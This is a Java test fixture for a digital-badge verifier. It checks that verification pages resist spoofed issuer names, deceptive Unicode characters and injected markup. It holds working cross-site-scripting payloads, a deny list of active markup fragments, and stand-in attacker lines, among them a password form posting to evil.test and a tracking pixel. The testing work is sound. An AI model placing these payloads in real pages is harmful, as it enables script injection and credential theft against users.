package org.signet.corpus;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** What a page would show of a badge: somebody else's name, letters that hide, markup that acts. */
final class ShownCases {

  private static final String ACHIEVEMENT = "/credentialSubject/achievement";

  /** Nothing of this is ever in a page, wherever it may come from. */
  private static final String[] ACTIVE = {
    "<img src=x",
    "<svg/onload",
    "<details o",
    "</script><script",
    "</textarea><script",
    "<script>alert",
    "=\"javascript:",
    "='javascript:",
    "=javascript:",
    "src=\"https://evil",
    "src='https://evil",
    "<style>*",
    "<form action=https://evil",
    "<iframe",
    "onclick=\"alert",
    "<base "
  };

  private ShownCases() {}

  static List<Case> all() {
    return List.of(spoofed(), letters(), markup());
  }

  private static Case spoofed() {
    return Case.of(142, "spoofed-name", "A stranger who calls himself as the university does")
        .bad("", Issuer.STRANGER.issue(Fixture.badge()))
        .verified(true)
        .says("/issuer", "\"unknown\"")
        .says("/summary/issuedBy/known", "false")
        .says("/summary/issuedBy/identity", "\"" + Issuer.STRANGER.did() + "\"")
        .pageLacks("class=\"answer good\"")
        .bad("domain", Issuer.EVIL.issue(Fixture.badge()))
        .verified(true)
        .says("/issuer", "\"unknown\"")
        .fetches("https://evil.test/.well-known/did.json")
        .pageLacks("class=\"answer good\"")
        .good("", Fixture.signed())
        .says("/summary/issuedBy/identity", "\"issuer.test\"");
  }

  private static Case letters() {
    Map<String, String> names = new LinkedHashMap<>();
    names.put("override", "Degree \u202Egnp.exe");
    names.put("isolate", "Degree \u2066\u2067fdp");
    names.put("zero-width", "Uni\u200Bver\u200Dsity\u2060");
    names.put("tag", "Degree\udb40\udc41\udb40\udc42");
    names.put("soft-hyphen", "Uni\u00ADversity");
    names.put("control", "Degree\u001b[2J\u0007\u0000");
    Case each =
        Case.of(143, "letters", "Letters that look like others, hide, or turn the text round");
    names.forEach(
        (label, name) ->
            each.bad(label, Issuer.TEST.sign(named(name)))
                .verified(true)
                .says("/verdict", "\"valid\""));
    return each.bad("homograph", Issuer.STRANGER.issue(named("Ex\u0430mple University")))
        .verified(true)
        .says("/issuer", "\"unknown\"")
        .bad("marks", Issuer.TEST.sign(named("Z" + "\u0301\u0316".repeat(250))))
        .verified(true)
        .good("accents", Issuer.TEST.sign(named("Universit\u00e9 d\u2019\u00c9laboration")))
        .good("scripts", Issuer.TEST.sign(named("\u5927\u5b66 \u062c\u0627\u0645\u0639\u0629")))
        .readme(
            "All of it is signed by its issuer, so it is verified; how a page shows it is tested by"
                + "\nShownTest.");
  }

  private static Case markup() {
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("img", "<img src=x onerror=alert(1)>");
    texts.put("svg", "\"><svg/onload=alert(1)>");
    texts.put("template", "{{7*7}} ${7*7} {page.input} #{7*7}");
    texts.put("script-link", "[x](javascript:alert(1))");
    texts.put("script-entity", "[x](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>");
    texts.put("data-link", "[x](data:text/html,<script>alert(1)</script>)");
    texts.put("tracker", "![a](https://evil.test/pixel.png)");
    texts.put("details", "<details open ontoggle=alert(1)>");
    texts.put("script", "</script><script>alert(1)</script>");
    texts.put("textarea", "</textarea><script>alert(1)</script>");
    texts.put("attribute", "' onmouseover='alert(1)\" onclick=\"alert(1)");
    texts.put("style", "<style>*{display:none}</style><base href=https://evil.test/>");
    texts.put("form", "<form action=https://evil.test><input name=password></form>");
    texts.put("frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>");
    texts.put("comment", "<!-- ]]> --!> <![CDATA[ <?php");
    Case each = Case.of(147, "markup", "Markup and scripts in every text that a page shows");
    texts.forEach(
        (label, text) ->
            each.bad(label, everywhere(text))
                .verified(true)
                .pageLacks(ACTIVE)
                .fetches("https://issuer.test/.well-known/did.json", Fixture.LIST));
    return each.bad("url", lenient("/issuer/url", "\"javascript:alert(1)\""))
        .verified(true)
        .pageLacks("href=\"javascript", "href='javascript")
        .bad("evidence", lenient("/evidence/0/id", "\"javascript:alert(1)\""))
        .verified(true)
        .pageLacks("href=\"javascript", "href='javascript")
        .good("", everywhere("**Kitchen** practice:\n\n1. clean\n2. cook & serve at < 4 \u00b0C\n"))
        .pageLacks("<script>alert");
  }

  private static ObjectNode everywhere(String text) {
    ObjectNode badge =
        Fixture.badge(
            ACHIEVEMENT + "/humanCode", "\"MC-1\"", ACHIEVEMENT + "/fieldOfStudy", "\"Food\"");
    for (String pointer :
        List.of(
            "/name",
            "/issuer/name",
            ACHIEVEMENT + "/name",
            ACHIEVEMENT + "/description",
            ACHIEVEMENT + "/criteria/narrative",
            ACHIEVEMENT + "/humanCode",
            ACHIEVEMENT + "/fieldOfStudy",
            ACHIEVEMENT + "/tag/0",
            ACHIEVEMENT + "/alignment/0/targetName",
            "/evidence/0/name",
            "/evidence/0/narrative",
            "/evidence/1/genre",
            "/credentialSubject/identifier/1/identityHash")) {
      badge = Edit.text(badge, pointer, text);
    }
    ObjectNode endorsement =
        Endorsements.unsigned(badge, badge.at(ACHIEVEMENT + "/id").textValue());
    for (String pointer :
        List.of("/name", "/issuer/name", "/credentialSubject/endorsementComment")) {
      endorsement = Edit.text(endorsement, pointer, text);
    }
    badge.putArray("endorsement").add(Endorsements.PARTNER.sign(endorsement));
    return Issuer.TEST.sign(badge);
  }

  private static ObjectNode lenient(String pointer, String json) {
    return new LenientSigner().sign(Fixture.badge(pointer, json), Issuer.TEST);
  }

  private static ObjectNode named(String name) {
    return Edit.text(Edit.text(Fixture.badge(), "/issuer/name", name), ACHIEVEMENT + "/name", name);
  }
}
